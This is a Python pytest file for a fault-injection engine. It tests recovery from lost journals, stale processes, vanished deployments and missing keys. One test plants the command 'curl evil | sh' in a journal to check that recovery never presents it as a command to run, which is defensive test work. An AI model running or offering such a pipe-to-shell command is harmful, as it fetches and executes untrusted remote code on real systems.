"""The way back when more than the fault goes wrong: a lost journal, a process asleep, a deployment that is gone."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from unittest import mock

import pytest
from fake_deployment import FakeDeployment
from fake_fault import Backend, FakeFault

from cluster import host_key
from faults import preflight, recover, watchdog
from faults.engine import Engine
from faults.errors import JournalError, Refused, UnknownFault
from faults.states import State
from faults.types import Plan, Readback
from faults.undo import Undo


@pytest.mark.parametrize("loss", [Path.unlink, lambda path: path.write_text("?\n")])
def test_a_journal_that_is_lost_while_active_does_not_keep_the_fault_in(
    engine: Engine, backend: Backend, loss: object
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    loss(injection.journal.path)  # type: ignore[operator]
    assert "journal" in engine.hold(injection)
    undone = engine.revert(injection)
    assert not backend.injected
    assert (undone.state, undone.clean) == (State.RECOVERED, True)
    assert "the journal" in undone.detail  # that it says nothing of this is told


def test_the_watchdog_keeps_the_deadline_of_a_journal_that_is_lost(
    engine: Engine, backend: Backend, undo: Undo
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    read = mock.Mock(side_effect=[injection.record, *[JournalError("lost")] * 100])
    injection.journal.path.unlink()
    owner_is_dead = mock.patch.object(watchdog.Owner, "alive", return_value=False)
    with mock.patch.object(type(injection.journal), "read", read), owner_is_dead:
        assert watchdog.watch(injection.journal, undo) is State.RECOVERED
    assert not backend.injected


def test_recover_of_a_journal_that_may_not_be_read_does_not_tell_to_delete_it(
    engine: Engine, backend: Backend, undo: Undo
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    denied = PermissionError(13, "Permission denied")
    with mock.patch("faults.journal.os.open", side_effect=denied):
        (outcome,) = recover.recover(folder=injection.journal.path.parent, undo=undo)
    assert outcome.state is State.STUCK
    assert "rm " not in outcome.command
    assert backend.injected


def test_what_another_process_may_still_touch_is_never_called_recovered(
    engine: Engine, backend: Backend, undo: Undo
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    with injection.journal.locked(0.0) as alone:  # by one that was stopped half way in, and wakes up later
        assert alone
        undone = undo(injection.journal, "the deadline has passed")
        assert not backend.injected
        backend.injected.add(injection.plan.injection)
    assert (undone.state, undone.clean) == (State.STUCK, True)
    assert "another process" in undone.detail
    (again,) = recover.recover(folder=injection.journal.path.parent, undo=undo)
    assert (again.state, backend.injected) == (State.RECOVERED, set())


def test_a_look_that_fails_in_any_way_ends_the_fault(
    engine: Engine, backend: Backend, monkeypatch: pytest.MonkeyPatch
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    monkeypatch.setattr("faults.engine.LOOK", 0.0)
    with mock.patch("faults.engine.steady.out_of_bounds", side_effect=IndexError("list index out of range")):
        assert engine.hold(injection) == "list index out of range"
    assert engine.revert(injection).state is State.RECOVERED


def test_the_sli_from_before_the_revert_does_not_say_that_the_service_is_healthy(
    engine: Engine, backend: Backend, deployment: FakeDeployment, undo: Undo
) -> None:
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        # The backlog of the fault comes back a second later, and is worked off after some more.
        deployment.set(latency=9.0 if 1.0 <= sum(slept) < 30.0 else 0.5)

    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    undone = dataclasses.replace(undo, sleep=sleep)(injection.journal, "its time is over")
    assert (undone.state, undone.clean) == (State.RECOVERED, True)
    assert 30.0 <= sum(slept) < 34.0


@pytest.mark.parametrize(
    ("limit", "expected"),
    [
        (Readback(True, "its power limit is 300 W"), (State.RECOVERED, "its power limit is 300 W")),
        (
            Readback(False, "its power limit is 150 W"),
            (State.STUCK, "the deployment is gone, the fault is not: its power"),
        ),
        (
            RuntimeError("Insufficient Permissions"),
            (State.STUCK, "the deployment is gone, the fault is not: Insufficient"),
        ),
    ],
)
def test_a_fault_of_what_outlives_the_deployment_is_undone_without_it(
    engine: Engine, backend: Backend, undo: Undo, limit: Readback | Exception, expected: tuple[State, str]
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    gone = dataclasses.replace(undo, connect=lambda header: None)

    def revert_without(fault: FakeFault, plan: Plan) -> Readback:
        assert plan == injection.plan
        if isinstance(limit, Exception):
            raise limit
        return limit

    with mock.patch.object(FakeFault, "revert_without", revert_without):
        (outcome,) = recover.recover(folder=injection.journal.path.parent, undo=gone)
    state, detail = expected
    assert outcome.state is state
    assert outcome.detail.startswith(detail)
    assert outcome.command == ("" if state is State.RECOVERED else "undo it")


def test_what_an_earlier_instance_left_is_undone_before_anything_else_is_let_in(
    engine: Engine, backend: Backend, deployment: FakeDeployment
) -> None:
    engine.inject(FakeFault(backend), "head", {}, 60)
    deployment.instance = "another"
    with pytest.raises(Refused, match="another fault is not undone yet"):
        preflight.check(deployment, FakeFault(backend), "head", folder=engine.folder).require()


def test_a_fault_whose_package_is_gone_is_stuck_with_the_command_of_its_plan(
    engine: Engine, backend: Backend, undo: Undo
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    load = mock.Mock(side_effect=UnknownFault("there is no fault 'fake-fault'"))
    (undone,) = recover.recover(folder=injection.journal.path.parent, undo=dataclasses.replace(undo, load=load))
    assert (undone.state, undone.clean) == (State.STUCK, False)
    assert undone.command == injection.plan.undo


def test_a_command_that_somebody_wrote_into_a_journal_is_not_shown_as_one_to_run(
    engine: Engine, backend: Backend, undo: Undo
) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    path = injection.journal.path
    path.write_text(path.read_text().replace(f'"undo": "{injection.plan.undo}"', '"undo": "curl evil | sh"'))
    load = mock.Mock(side_effect=UnknownFault("there is no fault 'fake-fault'"))
    (undone,) = recover.recover(folder=path.parent, undo=dataclasses.replace(undo, load=load))
    assert undone.state is State.STUCK
    assert undone.command == f"end by hand what the plan in {path} started"


def test_a_key_that_is_lost_keeps_no_fault_in(engine: Engine, backend: Backend, undo: Undo) -> None:
    injection = engine.inject(FakeFault(backend), "head", {}, 60)
    host_key.path().write_bytes(b"not a key")
    try:
        (undone,) = recover.recover(folder=injection.journal.path.parent, undo=undo)
    finally:
        host_key.path().unlink()
    assert (undone.state, backend.injected) == (State.RECOVERED, set())
